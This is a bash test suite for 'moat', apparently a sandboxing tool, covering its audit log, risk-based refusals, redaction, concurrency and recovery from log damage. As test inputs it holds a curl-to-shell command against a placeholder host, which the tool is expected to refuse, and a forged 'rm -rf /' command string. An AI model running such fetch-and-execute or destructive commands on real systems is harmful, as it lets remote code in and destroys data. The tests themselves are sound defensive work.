#!/bin/bash
# moat run records every run in the audit log: before it starts and after,
# with its output, denials and risk; refusals too; concurrency, a killed moat,
# and an unwritable log.
. "$(dirname "$0")/libtest.sh"
require_sandbox
export MOAT_DB="$T/audit.db"
sq() { python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print("\n".join("|".join("" if v is None else str(v) for v in r) for r in c.execute(sys.argv[2])))' "$MOAT_DB" "$1"; }

sandbox sh -c 'echo to-stdout; echo to-stderr >&2; unshare -U true 2>/dev/null; exit 4'
is "the run's status passes through" "$rc" 4
row=$(sq "SELECT status, exit_code, source, profile, net_mode, stdout_bytes, stderr_bytes, risk_static, risk_final FROM runs ORDER BY id DESC LIMIT 1")
IFS='|' read -r st code src prof net ob eb rs rf <<<"$row"
is "the row is complete" "$st $code $src $prof $net" "done 4 cli default isolated"
is "stdout and stderr byte counts" "$ob $eb" "10 10"
check "the static risk is stored" test -n "$rs"
check "the denied unshare raised the final risk" test "${rf:-0}" -gt "${rs:-0}"
like "the denied syscall is an event" "$(sq "SELECT name FROM events WHERE kind='syscall'")" "unshare"
is "stdout's sha256 is stored" "$(sq "SELECT stdout_sha256 FROM runs ORDER BY id DESC LIMIT 1")" "$(printf 'to-stdout\n' | sha256sum | cut -d' ' -f1)"

export GITHUB_TOKEN_TEST=ghp_abcdefghijklmnopqrstuvwxyz0123456789
sandbox sh -c "echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 >/dev/null; echo token=ghp_abcdefghijklmnopqrstuvwxyz0123456789"
last=$(sq "SELECT max(id) FROM runs")
like "the output head is kept" "$(sq "SELECT CAST(head AS TEXT) FROM outputs WHERE run=$last AND stream='stdout'")" "token="
unlike "a token in argv and output is redacted in the log" "$(sq "SELECT r.argv || CAST(o.head AS TEXT) FROM runs r JOIN outputs o ON o.run = r.id WHERE r.id=$last")" "ghp_abcdefghijklmnopqrstuvwxyz0123456789"

printf 'include = default\nworkspace = overlay\n' >"$T/ov.conf"
run_moat run -p "$T/ov.conf" -- sh -c 'echo new > added.txt'
is "a file an overlay run added is an event of the run" "$(sq "SELECT name || ' ' || verdict FROM events WHERE kind='file' AND run=(SELECT max(id) FROM runs)")" "$(cd "$T/ws" && pwd -P)/added.txt added"

printf 'include = default\nrisk-refuse-above = 50\n' >"$T/strict.conf"
run_moat run -p "$T/strict.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran'
is "a risky command is refused with 125" "$rc" 125
check "and did not run" test ! -e "$T/ws/ran"
is "the refusal is recorded" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "refused"
like "the refusal says why" "$err" "risk score [0-9]+ is above the profile's risk-refuse-above \(50\)"
like "with the reasons first" "$err" "download-pipe-shell"

# risk-confirm-above: asked on the terminal, never on stdin.
printf 'include = default\nrisk-confirm-above = 50\n' >"$T/confirm.conf"
run_moat run -p "$T/confirm.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran'
is "confirm with no terminal: refused with 125" "$rc" 125
like "saying there is no terminal to confirm it on" "$err" "above the profile's risk-confirm-above \(50\) and there is no terminal to confirm it on"
like "with the reasons" "$err" "download-pipe-shell"
check "and it did not run" test ! -e "$T/ws/ran"
is "the refusal is recorded" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "refused"
if command -v script >/dev/null && command -v setsid >/dev/null; then
	confirm() {	# answer, on script(1)'s terminal
		(cd "$T/ws" && printf '%s\n' "$1" | setsid script -qec "$(printf '%q ' "$MOAT" run -p "$T/confirm.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran')" /dev/null 2>&1)
	}
	out=$(confirm n); rc=$?
	like "confirm on a terminal: the question" "$out" "Run it in the sandbox anyway\? \[y/N\]"
	like "answered n: not confirmed" "$out" "and it was not confirmed"
	check "and it did not run" test ! -e "$T/ws/ran"
	out=$(confirm y); rc=$?
	unlike "answered y: no refusal" "$out" "moat: refused: "
	like "and the end summary" "$out" "exit 0, risk [0-9]+"
	check "and it ran" test -e "$T/ws/ran"
	is "the run is recorded as done" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "done"
	rm -f "$T/ws/ran"
else
	skip "confirm on a terminal" "no script(1) or setsid"
fi

# Twenty at once: twenty complete rows and a valid chain.
before=$(sq "SELECT count(*) FROM runs")
pids=()
for i in $(seq 20); do (cd "$T/ws" && "$MOAT" run -- sh -c "echo $i" >/dev/null 2>&1) & pids+=($!); done
wait "${pids[@]}"
is "20 concurrent runs give 20 rows" "$(sq "SELECT count(*) FROM runs")" "$((before + 20))"
is "all of them done" "$(sq "SELECT count(*) FROM runs WHERE status != 'done' AND status != 'refused'")" "0"
run_moat audit verify
is "the chain verifies" "$rc" 0
is "the database is intact" "$(sq "PRAGMA integrity_check")" "ok"

# moat killed with SIGKILL mid-run: the next moat marks the row interrupted.
(cd "$T/ws" && exec "$MOAT" run -- sleep 300) >/dev/null 2>&1 &
mpid=$!
for _ in $(seq 50); do [ "$(sq "SELECT count(*) FROM runs WHERE status='running'")" = 1 ] && break; sleep 0.1; done
is "a running run has its row before it ends" "$(sq "SELECT count(*) FROM runs WHERE status='running'")" "1"
kill -KILL $mpid; wait $mpid 2>/dev/null
run_moat audit verify
is "verify with a dead moat's row: 0" "$rc" 0
like "it reports the row whose moat is gone" "$out" "1 running row\(s\) whose moat is gone"
is "and leaves it running: verify writes nothing" "$(sq "SELECT status FROM runs WHERE argv LIKE '%sleep%300%'")" "running"
sandbox true
is "the next moat marks it interrupted" "$(sq "SELECT status FROM runs WHERE argv LIKE '%sleep%300%'")" "interrupted"
run_moat audit verify
is "the chain still verifies" "$rc" 0

# A forged running row, with no owner: never closed, never chained.
python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute("INSERT INTO runs (run_id, status, source, argv, command, started_at) VALUES (?, ?, ?, ?, ?, ?)", ("x", "running", "cli", "[]", "rm -rf / # forged", "2026-01-01T00:00:00.000Z")); c.commit()' "$MOAT_DB"
run_moat audit verify
is "verify: a forged running row breaks it (1)" "$rc" 1
like "naming it forged" "$out" "BROKEN: run [0-9]+ is running, but it names no owner .*forged"
sandbox true
is "the next moat neither closes nor chains it" "$(sq "SELECT status || ' ' || coalesce(seq, '-') FROM runs WHERE run_id = 'x'")" "running -"
python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute("DELETE FROM runs WHERE run_id = ?", ("x",)); c.commit()' "$MOAT_DB"
run_moat audit verify
is "without it the chain verifies" "$rc" 0

# A running row edited under its moat: noted, and verify says so.
(cd "$T/ws" && exec "$MOAT" run -- sh -c 'sleep 1.5') >/dev/null 2>&1 &
mpid=$!
for _ in $(seq 50); do [ "$(sq "SELECT count(*) FROM runs WHERE status='running'")" = 1 ] && break; sleep 0.1; done
python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute("UPDATE runs SET command = ? WHERE status = ?", ("echo harmless", "running")); c.commit()' "$MOAT_DB"
wait $mpid
is "the edited run still completes" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "done"
is "with a note that its row was edited" "$(sq "SELECT name FROM events WHERE kind = 'note' AND run = (SELECT max(id) FROM runs)")" "row-edited"
run_moat audit verify
is "verify: 1" "$rc" 1
like "it was edited while it ran" "$out" "was edited while it ran"

# A log that cannot be written: refused unless unlogged runs are allowed.
mkdir -p "$T/ro"; cp "$MOAT_DB" "$T/ro/audit.db"; chmod 0444 "$T/ro/audit.db"; chmod 0555 "$T/ro"
if ! is_root; then
	MOAT_DB="$T/ro/audit.db" run_moat run -- touch ran2
	is "an unwritable log refuses the run (125)" "$rc" 125
	like "and says why" "$err" "audit|read-only|readonly"
	check "nothing ran" test ! -e "$T/ws/ran2"
	MOAT_DB="$T/ro/audit.db" run_moat run --unlogged -- touch ran3
	is "--unlogged runs it anyway" "$rc" 0
	check "it ran" test -e "$T/ws/ran3"
else
	MOAT_DB=/proc/moat-no-such/audit.db run_moat run -- touch ran2
	is "an unwritable log refuses the run (125)" "$rc" 125
	check "nothing ran" test ! -e "$T/ws/ran2"
	MOAT_DB=/proc/moat-no-such/audit.db run_moat run --unlogged -- touch ran3
	is "--unlogged runs it anyway" "$rc" 0
	check "it ran" test -e "$T/ws/ran3"
fi
like "--unlogged: the warning names the log once and says the run goes on" "$err" \
    "^moat: audit log [^:]*/audit.db: .*; the run goes on, and may be missing from the log$"
chmod 0755 "$T/ro"

# The command starts only once its row is begun: with the log locked by
# another writer for 2 s, the sandbox is ready long before the row can be
# written, and the command waits for it. (mkdir: a call the notifier does
# not hold, where a file's open for writing would wait for the
# supervisor's loop whenever the command started.)
rm -rf "$T/ws/began" "$T/locked"
python3 -c 'import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None, timeout=10)
c.execute("BEGIN IMMEDIATE"); open(sys.argv[2], "w").close()
time.sleep(2); c.execute("COMMIT")' "$MOAT_DB" "$T/locked" &
kpid=$!
for _ in $(seq 100); do [ -e "$T/locked" ] && break; sleep 0.05; done
(cd "$T/ws" && exec "$MOAT" run -q -- mkdir began) &
bpid=$!
sleep 1
check "with the log locked, the command has not run: its row is not begun" test ! -e "$T/ws/began"
wait $kpid
wait $bpid; rc=$?
is "once the lock is gone, the row is begun and the command runs" \
    "$rc|$(test -d "$T/ws/began" && echo ran)|$(sq "SELECT status FROM runs WHERE argv LIKE '%began%'")" "0|ran|done"

# A completion is not lost to a log held locked past the busy timeout (5 s):
# the run ends while another writer holds the lock for 8 s.
(cd "$T/ws" && exec "$MOAT" run -- sh -c 'sleep 1; echo lockedout-done') >"$T/lk.out" 2>"$T/lk.err" &
lpid=$!
for _ in $(seq 50); do [ "$(sq "SELECT count(*) FROM runs WHERE argv LIKE '%lockedout%' AND status = 'running'")" = 1 ] && break; sleep 0.1; done
python3 -c 'import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None, timeout=10)
c.execute("BEGIN IMMEDIATE"); time.sleep(8); c.execute("COMMIT")' "$MOAT_DB"
wait $lpid; rc=$?
is "a run that ends while the log is locked for 8 s: its status passes through" "$rc" 0
is "its row is completed once the lock is gone, not left to be marked interrupted" \
    "$(sq "SELECT status || ' ' || exit_code || ' ' || end_reason FROM runs WHERE argv LIKE '%lockedout%'")" "done 0 exited"
check "with the time it ended, not when the row could be written" \
    test "$(sq "SELECT duration < 4 FROM runs WHERE argv LIKE '%lockedout%'")" = 1
like "and its output" "$(sq "SELECT CAST(head AS TEXT) FROM outputs o JOIN runs r ON o.run = r.id WHERE r.argv LIKE '%lockedout%'")" "lockedout-done"

# A disk that stays full past every retry: the completion is kept in the
# spool (room set aside beside the log when it was opened) and written by
# the next moat, not lost as "interrupted". A small filesystem of its own
# needs mount(2): root only.
if is_root && mkdir -p "$T/small" && mount -t tmpfs -o size=6M tmpfs "$T/small" 2>/dev/null; then
	cleanup_hooks+=("umount -l '$T/small' 2>/dev/null")
	MOAT_DB="$T/small/a.db" run_moat run -- true
	rm -f "$T/ws/go-full"
	(cd "$T/ws" && MOAT_DB="$T/small/a.db" exec "$MOAT" run -- sh -c 'while [ ! -e go-full ]; do sleep 0.05; done; head -c 3000000 /dev/zero | tr "\0" z; exit 5') >/dev/null 2>"$T/full.err" &
	fpid=$!
	for _ in $(seq 100); do [ "$(MOAT_DB="$T/small/a.db" sq "SELECT count(*) FROM runs WHERE status = 'running'")" = 1 ] && break; sleep 0.05; done
	dd if=/dev/zero of="$T/small/filler" bs=64k 2>/dev/null
	touch "$T/ws/go-full"
	wait $fpid; rc=$?
	is "full disk: the command's status passes through" "$rc" 5
	like "full disk: moat says the completion was kept in the spool" "$(cat "$T/full.err")" \
	    "full.*completion \(exit 5\) was kept in $T/small/a.db-spool"
	check "full disk: the spool holds it" grep -q "^moat-spool-1" "$T/small/a.db-spool"
	rm -f "$T/small/filler"
	MOAT_DB="$T/small/a.db" run_moat run -- true
	is "full disk: the next moat writes the spooled completion" \
	    "$(MOAT_DB="$T/small/a.db" sq "SELECT status || ' ' || exit_code || ' ' || stdout_bytes FROM runs WHERE id = 2")" "done 5 3000000"
	is "full disk: with a note saying so" \
	    "$(MOAT_DB="$T/small/a.db" sq "SELECT name FROM events WHERE run = 2 AND kind = 'note'")" "completion-spooled"
	MOAT_DB="$T/small/a.db" run_moat audit verify
	is "full disk: verify: 0" "$rc" 0
	umount -l "$T/small"
else
	skip "a disk full past the retries: mounting a small filesystem needs root ($who)"
fi

# A damaged file: never written into; verify says so.
export MOAT_DB_SAVE=$MOAT_DB
export MOAT_DB="$T/dmg.db"
for i in $(seq 20); do sandbox sh -c "seq 1 3000 | sed s/^/line-$i-/" >/dev/null; done
# A day later (the check is daily), 4 KiB of garbage in the middle.
python3 - "$MOAT_DB" <<'PY'
import os, sqlite3, sys
c = sqlite3.connect(sys.argv[1])
c.execute("UPDATE meta SET value = '1' WHERE key = 'checked_at'")
c.commit()
c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
c.close()
n = os.path.getsize(sys.argv[1])
with open(sys.argv[1], "r+b") as f:
    f.seek(n // 2 // 4096 * 4096)
    f.write(os.urandom(4096))
PY
before=$(sha256sum <"$MOAT_DB")
run_moat run -- touch dmg-ran
is "a damaged log refuses the run (125)" "$rc" 125
like "saying it is damaged, that moat will not write into it, and what to do" "$err" \
    "audit log $MOAT_DB is damaged \(.*\): moat will not write into it\. moat audit verify says so; restore it from a backup"
check "nothing ran" test ! -e "$T/ws/dmg-ran"
is "the file is as it was" "$(sha256sum <"$MOAT_DB")" "$before"
run_moat audit verify
is "verify of a damaged log: 1" "$rc" 1
like "it says damaged, not edited" "$out" "^BROKEN: the database file is damaged"
run_moat audit verify --json
like "--json names it" "$out" '"what":"damaged"'
export MOAT_DB=$MOAT_DB_SAVE

# A symbolic link where the log is: not followed, and said so.
ln -s "$MOAT_DB" "$T/link.db"
MOAT_DB="$T/link.db" run_moat run -- touch ran4
is "a log that is a symbolic link refuses the run (125)" "$rc" 125
like "saying it is a link, to where, and what to give" "$err" \
    "audit log $T/link.db is a symbolic link \(to $MOAT_DB\): moat does not follow one.*give --db \(or MOAT_DB\) the real path"
check "nothing ran" test ! -e "$T/ws/ran4"

done_testing
